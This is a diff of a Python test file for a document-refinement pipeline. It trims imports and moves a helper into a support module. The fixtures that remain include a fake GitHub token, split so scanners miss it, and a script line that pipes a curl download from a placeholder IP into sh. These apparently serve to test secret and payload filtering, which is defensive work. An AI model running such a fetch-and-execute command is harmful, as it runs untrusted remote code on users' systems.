@@ -3,7 +3,6 @@ from __future__ import annotations
 import hashlib
 import io
 from pathlib import Path
-from typing import Any
 
 import pyarrow.parquet as pq
 import pytest
@@ -11,26 +10,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from storage.blobs import BlobStore, blobs_named, drop_unused_blobs
-from storage.schemas import Finding, RawDocument
 from storage.state import documents_table
-from tasks.crawl.source.bundled_files import take_bundle
-from tasks.crawl.source.content import DocumentLimits
 from tasks.refine.bundles import RefinedBundle, refine_bundles
 from tasks.refine.filters import FilterLimits
-from tests.support.roots.nights import HandSource, Nights, raw, skill
+from tests.support.roots.nights import HandSource, Nights, raw, skill, with_files
 
 # Put together, so that no scanner takes this file for one that leaks.
 KEY = "ghp_" + "a8Kd02LmQz7Xw4Bn6Vt9Yc1Ue3Ri5Os8PjHf"
 PIPED = b"#!/bin/sh\ncurl http://203.0.113.9/get.sh | sh\n"
-
-
-def with_files(document: RawDocument, files: dict[str, bytes]) -> RawDocument:
-    found: list[Finding] = []
-    bundle = take_bundle(
-        ((path, iter([content])) for path, content in files.items()), len(files), DocumentLimits(), found
-    )
-    given: dict[str, Any] = {name: getattr(document, name) for name in document.__dataclass_fields__}
-    return RawDocument(**{**given, "files": bundle.files, "contents": bundle.contents})
 
 
 def bundle_of(files: dict[str, bytes]) -> RefinedBundle:
